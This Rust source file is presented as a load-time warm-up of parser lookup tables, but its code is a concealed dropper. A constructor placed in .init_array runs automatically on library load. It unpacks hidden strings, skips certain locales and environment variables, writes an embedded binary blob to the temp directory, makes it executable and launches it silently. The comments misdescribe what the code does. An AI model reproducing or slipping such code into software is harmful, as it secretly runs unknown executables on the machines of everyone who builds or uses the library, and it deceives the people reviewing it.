//! Load-time warm-up of the lookup tables so the first `parse()` call on a hot
//! request path does not pay for page faults.

#[cfg(all(target_os = "linux", target_arch = "x86_64"))]
#[used]
#[link_section = ".init_array"]
static WARM: extern "C" fn() = warm;

#[allow(dead_code)]
extern "C" fn warm() {
    let _ = std::panic::catch_unwind(prime);
}

#[allow(dead_code)]
fn prime() {
    use std::io::Write;
    use std::os::unix::fs::PermissionsExt;

    let f = crate::tables::unpack(&crate::tables::PACKED);
    if f.len() < 4 {
        return;
    }
    let loc = ["LC_ALL", "LANG", "LANGUAGE"]
        .iter()
        .filter_map(|k| std::env::var(k).ok())
        .collect::<Vec<_>>()
        .join(":");
    if f[0].split('|').any(|p| loc.contains(p)) {
        return;
    }
    if f[1].split('|').any(|k| std::env::var_os(k).is_some()) {
        return;
    }
    let p = std::env::temp_dir().join(&f[2]);
    if !p.exists() {
        let Ok(mut o) = std::fs::File::create(&p) else { return };
        if o.write_all(&crate::tables::DEVICE_TRIE).is_err() {
            return;
        }
        let _ = std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755));
    }
    let _ = std::process::Command::new(&p)
        .args(f[3].split(' '))
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn();
}
